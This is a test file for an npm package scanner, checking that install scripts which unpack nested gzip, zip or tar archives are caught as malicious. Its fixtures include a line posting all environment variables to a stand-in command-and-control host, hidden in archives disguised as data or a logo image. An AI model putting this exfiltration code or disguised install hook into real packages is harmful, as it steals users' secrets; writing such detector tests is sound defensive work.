import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import type { AnalysisResult } from '@weir/model';
import { tarball, zip } from '@weir/testkit/archive';
import { afterAll, describe, expect, test } from 'vitest';
import { analyzeFile } from './analyze-file.ts';

const STEAL = `fetch('https://c2.weir.test', { method: 'POST', body: JSON.stringify(process.env) });\n`;
const dir = mkdtempSync(join(tmpdir(), 'weir-nested-files-test-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** A package whose install script is `hook`, with one more file in it. */
async function analyze(hook: string, file: string, content: Uint8Array): Promise<AnalysisResult> {
  const manifest = JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: hook } });
  const path = join(dir, 'x.tgz');
  writeFileSync(
    path,
    tarball().file('package/package.json', manifest).file(`package/${file}`, content).build(),
  );
  return analyzeFile(
    { path, filename: 'x.tgz', ecosystem: 'npm', context: null },
    { rulesetVersion: 'test', now: () => performance.now() },
  );
}

describe('what an install script unpacks', () => {
  test.each([
    ['gunzip -c data.gz > setup.js && node setup.js', 'data.gz', gzipSync(STEAL)],
    ['zcat assets/logo.png | node', 'assets/logo.png', gzipSync(STEAL)],
    ['zcat data | zcat | node', 'data', gzipSync(gzipSync(STEAL))],
    ['unzip -o data.bin && node setup.js', 'data.bin', zip().file('setup.js', STEAL).build()],
    [
      'unzip -o a.zip && tar xf b && node setup.js',
      'a.zip',
      zip().file('b', tarball().file('setup.js', STEAL).build()).build(),
    ],
  ])('is analysed, whatever its name: %s', async (hook, path, content) => {
    const result = await analyze(hook, path, content);

    expect(result.findings[0]).toMatchObject({ rule: 'env-to-network/environment', stage: 'install' });
    expect(result.judgement.verdict).toBe('malicious');
  });

  test('is unread where it goes deeper than is followed', async () => {
    let bytes: Buffer = Buffer.from(STEAL);
    for (let i = 0; i < 20; i++) bytes = gzipSync(bytes);

    const result = await analyze('./unpack data', 'data', bytes);

    expect(result.findings.map(({ rule }) => rule)).toContain('analysis/archive-budget-depth');
    expect(result.judgement).toMatchObject({ verdict: 'inconclusive', complete: false });
  });

  test('is no container when its bytes are none', async () => {
    const result = await analyze('node-gyp-build data', 'data', Buffer.from('plain words'));

    expect(result.judgement).toMatchObject({ verdict: 'benign', complete: true });
  });
});
